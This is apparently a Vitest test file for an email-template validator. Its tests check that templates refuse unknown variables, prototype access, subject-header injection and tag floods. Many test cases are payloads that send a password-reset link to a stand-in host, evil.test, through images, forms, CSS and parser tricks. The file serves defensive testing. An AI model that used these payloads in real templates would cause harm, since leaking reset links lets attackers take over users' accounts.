import { describe, expect, test } from 'vitest'
import type { MessageTexts } from '../templates/template.ts'
import { builtInTemplates } from '../templates.ts'
import { problemsOf } from './templateRules.ts'
import { valuesOf } from './templateVariables.ts'

const kind = builtInTemplates['contact-message']

/** The problems of an otherwise valid contact message with these texts. */
const problems = (texts: Partial<MessageTexts>) =>
  problemsOf(kind, {
    subject: texts.subject ?? 'Hello',
    html: `${texts.html ?? ''}{{message}}`,
    text: `${texts.text ?? ''}{{message}}`,
  })

describe.each(Object.entries(builtInTemplates))('the built-in %s', (_name, builtIn) => {
  test('keeps the rules', () => {
    expect(problemsOf(builtIn, builtIn)).toEqual([])
  })

  test('has an example of every required variable, and says when it is sent', () => {
    expect(Object.keys(valuesOf(builtIn, builtIn.sample))).toEqual(
      expect.arrayContaining([...builtIn.required]),
    )
    expect(builtIn.description).not.toBe('')
  })
})

test.each([
  'plain words',
  '{{name}} {{ name }} {{~name~}}',
  '{{facility.name}} {{facility.address}} {{site_url}}',
  '{{#if email}}a{{else}}b{{/if}}',
  '{{#if email}}a{{else if phone}}b{{else}}c{{/if}}',
  '{{#unless email}}{{#if name}}{{phone}}{{/if}}{{/unless}}',
  '{ one brace } \\{{escaped}}',
])('may hold %s', (html) => {
  expect(problems({ html })).toEqual([])
})

test.each([
  '{{full_name}}',
  '{{name.length}}',
  '{{constructor}}',
  '{{constructor.name}}',
  '{{__proto__}}',
  '{{toString}}',
  '{{this}}',
  '{{this.name}}',
  '{{./name}}',
  '{{../name}}',
  '{{@root.name}}',
  '{{@index}}',
  '{{facility}}',
  '{{{name}}}',
  '{{&name}}',
  '{{name email}}',
  '{{name a=email}}',
  '{{lookup this "name"}}',
  '{{log name}}',
  '{{helperMissing}}',
  '{{"name"}}',
  '{{1}}',
  '{{true}}',
  '{{if email}}',
  '{{#each name}}{{/each}}',
  '{{#with facility}}{{name}}{{/with}}',
  '{{#name}}{{/name}}',
  '{{^name}}{{/name}}',
  '{{#if}}{{/if}}',
  '{{#if email name}}{{/if}}',
  '{{#if email includeZero=true}}{{/if}}',
  '{{#if (lookup this "name")}}{{/if}}',
  '{{#if "x"}}{{/if}}',
  '{{#if other}}{{/if}}',
  '{{#if email as |x|}}{{x}}{{/if}}',
  '{{#if email}}{{other}}{{/if}}',
  '{{#if email}}{{else}}{{other}}{{/if}}',
  '{{> partial}}',
  '{{#> layout}}{{/layout}}',
  '{{* decorator}}',
  '{{#*inline "x"}}{{/inline}}',
  '{{! a comment }}',
  '{{#if email}}',
  '{{/if}}',
  '{{else}}',
  '{{name',
  '{{}}',
  `${'{{#if email}}'.repeat(30)}${'{{/if}}'.repeat(30)}`,
])('may not hold %s', (source) => {
  expect(problems({ html: source }).map(({ field }) => field)).toContain('html_template')
  expect(problems({ text: source }).map(({ field }) => field)).toContain('text_template')
  expect(problems({ subject: source }).map(({ field }) => field)).toContain('subject_template')
})

test('thousands of tags are refused before they are parsed', () => {
  const nested = `${'{{#if email}}'.repeat(5_000)}${'{{/if}}'.repeat(5_000)}`

  for (const html of [nested, '{{name}}'.repeat(5_000)])
    expect(problems({ html })).toEqual([{ field: 'html_template', message: 'More than 300 tags in braces.' }])
})

test('a problem names its line', () => {
  expect(problems({ html: 'a\nb\n{{other}}' })).toEqual([
    {
      field: 'html_template',
      message: 'Line 3: {{other}} is not a variable of this message.',
      line: 3,
      column: 3,
      name: 'other',
    },
  ])
  expect(problems({ html: 'a\n{{#if email}}' })).toEqual([
    { field: 'html_template', message: 'Line 2: the braces do not fit together.', line: 2 },
  ])
})

test.each(['Hello\nBcc: all@example.com', 'Hello\r', 'Hello\u2028', '\u0000', ' ', ''])(
  'the subject may not be %j',
  (subject) => {
    expect(problems({ subject })[0]).toEqual({ field: 'subject_template', message: expect.any(String) })
  },
)

test('a link with access to an account cannot be in the subject', () => {
  const texts = { ...builtInTemplates['reset-password'], subject: 'Open {{reset_url}}' }

  expect(problemsOf(builtInTemplates['reset-password'], texts)).toMatchObject([
    { field: 'subject_template', name: 'reset_url' },
  ])
})

const reset = builtInTemplates['reset-password']

test.each([
  '<img src="https://x.example/?u={{reset_url}}">',
  '<a href="https://x.example/?u={{reset_url}}">Reset</a>',
  '<a href="{{reset_url}}/more">Reset</a>',
  '<form action="https://x.example"><input value="{{reset_url}}"></form>',
  'https://x.example/{{reset_url}}',
])('a link with access to an account cannot be carried away by %s', (html) => {
  const problem = { field: 'html_template', line: 2, name: 'reset_url' }

  expect(problemsOf(reset, { ...reset, html: `<p>{{reset_url}}</p>\n${html}` })).toMatchObject([problem])
})

test('such a link may stand by itself, and be the target of a link', () => {
  const html = `<a class="b" href="{{reset_url}}">Here</a>, <a href='{{reset_url}}'>here</a> or here ({{reset_url}}).`

  expect(problemsOf(reset, { ...reset, html, text: 'Open {{reset_url}}' })).toEqual([])
})

test('both parts must contain the required variables', () => {
  expect(problemsOf(kind, { subject: 'Hi', html: '<p>{{name}}</p>', text: '' })).toEqual([
    { field: 'html_template', message: '{{message}} must be mentioned.', name: 'message' },
    { field: 'text_template', message: 'This part is empty.' },
  ])
})

test('marketing that is a whole document must contain the unsubscribe link', () => {
  const texts = { subject: 'News', html: '<html><body>{{news}}</body></html>', text: '{{news}}' }
  const linked = {
    ...texts,
    html: '<html><body>{{news}} <a href="{{unsubscribe_url}}">stop</a></body></html>',
  }

  expect(problemsOf(builtInTemplates.newsletter, texts)).toHaveLength(1)
  expect(problemsOf(builtInTemplates.newsletter, linked)).toEqual([])
})

describe('a message with access to an account', () => {
  const secret = builtInTemplates['reset-password']
  const withHtml = (html: string) => problemsOf(secret, { ...secret, html: `${secret.html}\n${html}` })

  test.each([
    '<p>{{reset_url}}</p>',
    '<p>Open ({{reset_url}}), or call us.</p>',
    `<a class="button" href='{{reset_url}}' title="Reset">Reset</a>`,
    '<style>a > b { color: red }</style><p title="a > b">{{reset_url}}</p>',
    '{{#if full_name}}<p>{{full_name}}</p>{{else}}<b>You</b>{{/if}} {{reset_url}}',
    '2 < 3 {{reset_url}}',
    '<img src="{{site_url}}/logo.png" alt="{{full_name}}">',
  ])('may hold %s', (html) => {
    expect(withHtml(html)).toEqual([])
  })

  test.each([
    '<img src="https://evil.test/?{{reset_url}}">',
    '<img src="https://evil.test/?{{[reset_url]}}">',
    '<img src={{reset_url}}>',
    `<img src='https://evil.test/? href="{{reset_url}}"'>`,
    '<img alt=">" src="https://evil.test/? {{reset_url}} ">',
    '<img alt=a>b src="https://evil.test/">https://evil.test/?{{reset_url}}',
    '<img src="https://evil.test/?\n{{reset_url}}',
    `<img src='https://evil.test/?{{#if site_url}}{{else}}'>{{/if}} {{reset_url}} '>`,
    `<!--><img src='https://evil.test/?--> {{reset_url}} '>`,
    `<!--[if mso]><img src='https://evil.test/?<![endif]--> {{reset_url}} '>`,
    `<noscript><img src='https://evil.test/?</noscript> {{reset_url}} '>`,
    `<{{full_name}} src='https://evil.test/? {{reset_url}} '>`,
    '<style>p { background: url( {{reset_url}} ) }</style>',
    '<link href="{{reset_url}}">',
    '<a href="https://evil.test/" data-href="{{reset_url}}">Reset</a>',
    '<a href="https://evil.test/?{{reset_url}}">Reset</a>',
    '<form action="https://evil.test/"><textarea name="a"> {{reset_url}} </textarea></form>',
    'https://evil.test/? {{~reset_url}}',
    'https://evil.test/?({{reset_url}})',
  ])('may not hold %s', (html) => {
    expect(withHtml(html)).not.toEqual([])
  })

  test('has its link by itself in plain text too', () => {
    const withText = (text: string) => problemsOf(secret, { ...secret, text: `${secret.text}\n${text}` })
    expect(withText('2 < 3: {{reset_url}}')).toEqual([])
    for (const text of ['https://evil.test/?{{reset_url}}', 'https://evil.test/? {{~reset_url}}'])
      expect(withText(text)).toMatchObject([
        { field: 'text_template', line: secret.text.split('\n').length + 1 },
      ])
  })
})
